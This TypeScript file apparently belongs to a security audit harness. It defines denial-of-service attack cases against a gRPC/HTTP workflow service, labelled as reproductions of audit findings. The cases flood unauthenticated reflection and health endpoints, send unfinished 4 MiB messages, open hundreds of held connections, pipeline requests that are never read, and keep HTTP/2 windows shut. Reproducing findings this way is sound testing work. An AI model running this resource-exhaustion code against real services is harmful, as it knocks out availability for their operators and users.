// Findings 1, 2, 3 and 13: what may be asked without a key.

import { once } from "node:events";
import type { ClientHttp2Stream } from "node:http2";
import type { Attack } from "../attack.ts";
import { type Attacker, grpcFrame, lengthField } from "../attacker.ts";
import { holdBodies } from "../hold-bodies.ts";

const reflection = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const reflectionAlpha = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo";
const check = "/grpc.health.v1.Health/Check";
const watch = "/grpc.health.v1.Health/Watch";

const question = grpcFrame(lengthField(4, "flowcall.v1.WorkflowService"));
const questions = Buffer.concat(Array.from({ length: 400 }, () => question));

const messageBytes = 4_194_288;
/** All of a message but its last bytes. */
const unfinished = grpcFrame(Buffer.alloc(messageBytes - 10), messageBytes);

export const openServices: readonly Attack[] = [
  {
    id: "1",
    title: "reflection streams without a key, 1 connection with 20 streams that ask without a pause",
    isVolume: true,
    run: (attacker) => ask(attacker, [reflection], 20),
  },
  {
    id: "1b",
    title: "the same by both versions of reflection, 4 connections with 100 streams each",
    isVolume: true,
    run: async (attacker) => {
      const paths = [reflection, reflectionAlpha];
      await Promise.all(Array.from({ length: 4 }, () => ask(attacker, paths, 100)));
    },
  },
  {
    id: "2",
    title: "unfinished messages of 4 MiB to reflection, 4 connections with 128 streams each",
    run: (attacker) => leaveUnfinished(attacker, reflection, 4),
  },
  {
    id: "2b",
    title: "unfinished messages of 4 MiB to health checks, 2 connections with 128 streams each",
    run: (attacker) => leaveUnfinished(attacker, check, 2),
  },
  {
    id: "2c",
    title: "unfinished bodies of health checks over Connect, HTTP/1.1, 500 connections",
    run: async (attacker) => {
      const head = `POST ${check} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 4000000\r\n\r\n`;
      await holdBodies(attacker, head);
    },
  },
  {
    id: "3",
    title: "health watches, 350 connections with 128 streams each",
    isVolume: true,
    run: (attacker) => watchHealth(attacker, 350, 128),
  },
  {
    id: "3b",
    title: "health watches, 100 connections with 100 streams each",
    run: (attacker) => watchHealth(attacker, 100, 100),
  },
  {
    id: "13",
    title: "/openapi.json asked for 128 times ahead and never read, 300 connections",
    run: (attacker) => neverRead(attacker, ["/openapi.json"]),
  },
  {
    id: "13b",
    title: "the other documents asked for 128 times ahead and never read, 300 connections",
    run: (attacker) => neverRead(attacker, ["/docs", "/openapi.json", "/", "/nowhere"]),
  },
  {
    id: "13c",
    title: "/openapi.json on 128 streams of HTTP/2 whose window stays shut, 300 connections",
    run: async (attacker) => {
      await attacker.repeat(300, async () => {
        const session = attacker.connectHttp2();
        session.settings({ initialWindowSize: 0 });
        for (let stream = 0; stream < 128; stream += 1) {
          session.request({ ":path": "/openapi.json" }).on("error", () => attacker.count("stream failed"));
        }
        await once(session, "close", { signal: attacker.signal });
      });
    },
  },
];

/** Writes on as long as the server takes it. */
async function ask(attacker: Attacker, paths: readonly string[], streams: number): Promise<void> {
  await attacker.repeat(1, async () => {
    const session = attacker.connectHttp2();
    const asking = Array.from({ length: streams }, async (_, index) => {
      const stream = attacker.openStream(session, paths[index % paths.length] ?? reflection);
      stream.on("data", (data: Buffer) => attacker.count("bytes answered", data.length));
      while (!attacker.isOver && !stream.destroyed) {
        attacker.count("questions", 400);
        if (!stream.write(questions)) {
          await Promise.race([once(stream, "drain"), ended(stream)]).catch(() => undefined);
        }
      }
    });
    await Promise.race([Promise.all(asking), once(session, "close", { signal: attacker.signal })]);
    session.destroy();
    await attacker.pause(20);
  });
}

async function leaveUnfinished(attacker: Attacker, path: string, connections: number): Promise<void> {
  await attacker.repeat(connections, async () => {
    const session = attacker.connectHttp2();
    const streams = Array.from({ length: 128 }, async () => {
      const stream = attacker.openStream(session, path).resume();
      stream.write(unfinished);
      attacker.count("messages");
      await ended(stream);
      attacker.count("streams ended");
    });
    await Promise.race([Promise.all(streams), once(session, "close", { signal: attacker.signal })]);
    session.destroy();
    await attacker.pause(20);
  });
}

async function watchHealth(attacker: Attacker, connections: number, streams: number): Promise<void> {
  const request = grpcFrame(Buffer.alloc(0));
  await attacker.repeat(connections, async () => {
    const session = attacker.connectHttp2();
    const watching = Array.from({ length: streams }, async () => {
      const stream = attacker.openStream(session, watch).resume();
      stream.end(request);
      await ended(stream);
    });
    await Promise.race([Promise.all(watching), once(session, "close", { signal: attacker.signal })]);
    session.destroy();
    await attacker.pause(100);
  });
}

async function neverRead(attacker: Attacker, paths: readonly string[]): Promise<void> {
  const head = paths.map((path) => `GET ${path} HTTP/1.1\r\nhost: a\r\n\r\n`).join("");
  await attacker.repeat(300, async () => {
    const socket = attacker.connect().pause();
    socket.write(head.repeat(128 / paths.length));
    attacker.count("connections");
    await once(socket, "close", { signal: attacker.signal });
  });
}

async function ended(stream: ClientHttp2Stream): Promise<void> {
  if (!stream.closed) {
    await once(stream, "close").catch(() => undefined);
  }
}
